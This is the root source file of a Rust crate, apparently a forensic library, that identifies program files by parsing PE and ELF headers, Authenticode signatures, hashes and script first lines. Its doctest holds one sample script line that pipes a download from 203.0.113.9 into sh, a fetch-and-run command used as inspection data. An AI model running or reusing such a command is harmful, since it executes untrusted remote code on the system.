//! Bytes → what a program file is: MD5/SHA-1/SHA-256, PE headers, exports, version
//! resources and Authenticode (the signed digest checked against the file; catalog files
//! and the digests they list), ELF type,
//! machine and interpreter, and a script's first lines. Parsers only: the `foothold` facade
//! finds the file a task, service or job runs and hands its bytes here.
//!
//! # Getting started
//! ```
//! let info = foothold_binary::describe("run.sh", b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
//! assert_eq!(info.file_type, foothold_binary::FileType::Script);
//! let s = info.script.unwrap();
//! assert_eq!((s.language.as_str(), s.interpreter.as_deref()), ("shell", Some("/bin/sh")));
//! assert_eq!(s.first_lines[1], "curl http://203.0.113.9/x | sh");
//! ```
#![forbid(unsafe_code)]
// Every byte this crate reads is evidence: arithmetic on read values is checked (or saturating
// against a bound), and every slice goes through `get`.
#![deny(
    clippy::arithmetic_side_effects,
    clippy::indexing_slicing,
    clippy::string_slice
)]

mod authenticode;
mod catalog;
mod der;
mod elf;
mod error;
mod hash;
mod pe;
mod script;
mod version_info;

pub use authenticode::{ChainLink, Signature, TrustStore};
pub use catalog::{
    catalog_members, catalog_signature, catalog_signatures, each_catalog_member, CatalogMember,
    CatalogSignature,
};
pub use elf::ElfInfo;
pub use error::{Error, Result};
pub use hash::{hashes, Hasher, Hashes};
pub use pe::{authenticode_digest, authenticode_digests, PeInfo};
pub use script::{ScriptInfo, SCRIPT_LINES};
use serde::Serialize;
pub use version_info::{parse_version_info, VersionInfo};

foothold_core::named_enum! {
    /// What a file is, by its content (and, for scripts, its name).
    pub enum FileType {
        /// A PE image (EXE, DLL, SYS).
        Pe => "pe",
        /// An ELF file.
        Elf => "elf",
        /// A script (by extension or `#!` line).
        Script => "script",
        /// Empty.
        Empty => "empty",
        /// Anything else.
        Other => "other",
    }
}

/// What a program file's bytes say.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, schemars::JsonSchema)]
pub struct BinaryInfo {
    /// What it is.
    pub file_type: FileType,
    /// PE facts.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub pe: Option<PeInfo>,
    /// ELF facts.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub elf: Option<ElfInfo>,
    /// Script facts.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub script: Option<ScriptInfo>,
    /// Damage met while reading it (the facts above are what could be read).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub errors: Vec<String>,
}

/// Describe a file from its name (for the script extensions) and its bytes. Hashing is
/// separate ([`hashes`], [`Hasher`]): a caller hashes files it does not describe, and
/// describes only the start of a large non-PE file.
///
/// ```
/// let i = foothold_binary::describe("x.exe", b"MZ not really");
/// assert_eq!(i.file_type, foothold_binary::FileType::Pe);
/// assert!(i.pe.is_none() && !i.errors.is_empty(), "damage is said, not hidden");
/// ```
pub fn describe(name: &str, bytes: &[u8]) -> BinaryInfo {
    let mut info = BinaryInfo {
        file_type: FileType::Other,
        pe: None,
        elf: None,
        script: None,
        errors: Vec::new(),
    };
    if bytes.is_empty() {
        info.file_type = FileType::Empty;
    } else if bytes.starts_with(b"MZ") {
        info.file_type = FileType::Pe;
        match pe::parse_pe(bytes) {
            Ok((p, errors)) => {
                info.pe = Some(p);
                info.errors = errors.iter().map(ToString::to_string).collect();
            }
            Err(e) => info.errors.push(e.to_string()),
        }
    } else if bytes.starts_with(b"\x7fELF") {
        info.file_type = FileType::Elf;
        match elf::parse_elf(bytes) {
            Ok(e) => info.elf = Some(e),
            Err(e) => info.errors.push(e.to_string()),
        }
    } else if let Some(s) = script::script_info(name, bytes) {
        info.file_type = FileType::Script;
        info.script = Some(s);
    }
    info
}
